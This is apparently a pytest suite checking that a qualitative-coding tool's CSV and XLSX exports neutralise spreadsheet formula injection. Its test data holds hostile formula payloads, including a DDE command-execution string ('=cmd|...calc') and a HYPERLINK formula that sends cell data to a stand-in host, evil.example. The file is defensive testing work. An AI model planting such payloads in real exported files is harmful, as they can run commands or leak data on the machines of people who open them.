"""Formula (CSV) injection: every CSV and XLSX that thematic writes -- export csv/xlsx/codings-csv, export-codings,
adjudications --csv, suggest --out -- neutralises cells that a spreadsheet would run as a formula, in headers too:
``= + - @``, tab, CR and LF at the start, also after leading spaces or line breaks."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from thematic import embed
from thematic import suggest as sg
from thematic.adjudicate import decide
from thematic.cli import main
from thematic.codebook import ensure_path
from thematic.coding import apply_code
from thematic.embed import HashingEmbedder
from thematic.export import safety
from thematic.store import Store

from .helpers import make_corpus

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@bob",
    "\n=1+1",
    "  =1",
    "\t=2",
    "\r=3",
    "+44 7700 900000",
    "-2+3",
    " \n @SUM(A1)",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def dangerous(value: object) -> bool:
    """Would a spreadsheet read this cell as a formula? (It skips leading whitespace before the trigger.)"""
    if not isinstance(value, str) or not value:
        return False
    return value.startswith(TRIGGERS) or value.lstrip(" \t\r\n\u00a0").startswith(TRIGGERS)


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_neutralises_every_trigger_and_uncell_restores_it(value: str) -> None:
    guarded = safety.cell(value)
    assert not dangerous(guarded) and guarded.startswith("'")
    assert safety.uncell(guarded) == value


@pytest.mark.parametrize("value", ["Kind staff", "1 = 1", "a-b", "email me @ home", "", "'quoted"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert safety.cell(value) == value
    assert safety.cell(3) == 3 and safety.cell(None) is None


def test_write_csv_guards_header_and_rows(tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert safety.write_csv(out, ["=h", "ok"], [["@a", 1], ["\n=b", "fine"]]) == 2
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    cells = [c for r in rows for c in r]
    assert cells and not any(dangerous(c) for c in cells)


@pytest.fixture
def hostile_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project whose form ids, metadata field names and values, question text, answers, code names, coder
    names and adjudication rationale are all formula-shaped."""
    fake = HashingEmbedder(dim=256)
    monkeypatch.setattr(embed, "default_embedder", lambda **_: fake)
    sg.clear_caches()
    db = tmp_path / "p.db"
    question = "\n=1+1 What helped?"
    field = "=cmd|' /C calc'!A0"
    forms = [
        (f"=HYPERLINK(\"x\",\"{i}\")" if i % 2 else f"@form{i}", {field: HOSTILE[i % len(HOSTILE)], "Team": "-A"},
         {question: [HOSTILE[i % len(HOSTILE)] + " was kind", HOSTILE[(i + 3) % len(HOSTILE)]]})
        for i in range(6)
    ]
    with Store(db) as s:
        segs = make_corpus(s, forms, questions=(question,))
        theme = ensure_path(s, "=SUM(A1)/@evil")
        other = ensure_path(s, "+Theme/-sub")
        ids = sorted(segs.values())
        for sid in ids[:6]:
            apply_code(s, sid, theme, "@bob")
        for sid in ids[3:9]:
            apply_code(s, sid, other, "=evil")
        apply_code(s, ids[0], other, "=evil")
        decide(s, ids[0], other, "@bob", "=evil", "keep_b", "=cmd|' /C calc'!A0 because", consensus="+consensus",
               actor="@lead")
    return db


def _csv_cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def _assert_safe(cells: list[str], where: str) -> None:
    assert len(cells) > 10, where
    bad = [c for c in cells if dangerous(c)]
    assert bad == [], f"{where}: {bad[:5]}"
    # the hostile values are really there (guarded), not dropped
    assert any(c.startswith("'=") for c in cells), where


@pytest.mark.parametrize("fmt", ["csv", "codings-csv"])
def test_export_csv_formats_are_safe(hostile_project: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out-{fmt}.csv"
    assert main(["export", str(hostile_project), "--format", fmt, "-o", str(out)]) == 0
    cells = _csv_cells(out)
    _assert_safe(cells, fmt)
    if fmt == "csv":  # the metadata column name is a header cell
        assert "'=cmd|' /C calc'!A0" in cells[:12]


def test_export_xlsx_is_safe(hostile_project: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "out.xlsx"
    assert main(["export", str(hostile_project), "--format", "xlsx", "--depth", "3", "-o", str(out)]) == 0
    wb = load_workbook(out)
    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    _assert_safe(cells, "xlsx")


def test_export_codings_is_safe(hostile_project: Path, tmp_path: Path) -> None:
    out = tmp_path / "codings.csv"
    assert main(["export-codings", str(hostile_project), str(out)]) == 0
    _assert_safe(_csv_cells(out), "export-codings")


def test_adjudications_csv_is_safe(hostile_project: Path, tmp_path: Path) -> None:
    out = tmp_path / "adj.csv"
    assert main(["adjudications", str(hostile_project), "--csv", str(out)]) == 0
    cells = _csv_cells(out)
    _assert_safe(cells, "adjudications")
    assert "'=cmd|' /C calc'!A0 because" in cells


def test_suggest_out_is_safe(hostile_project: Path, tmp_path: Path) -> None:
    out = tmp_path / "suggestions.csv"
    assert main(["suggest", str(hostile_project), "--top", "2", "--out", str(out)]) == 0
    cells = _csv_cells(out)
    bad = [c for c in cells if dangerous(c)]
    assert len(cells) > 10 and bad == []
    assert any(c.startswith("'@form") or c.startswith("'=HYPERLINK") for c in cells)  # form ids
    assert any(c.startswith("'\n=1+1") for c in cells)  # the question
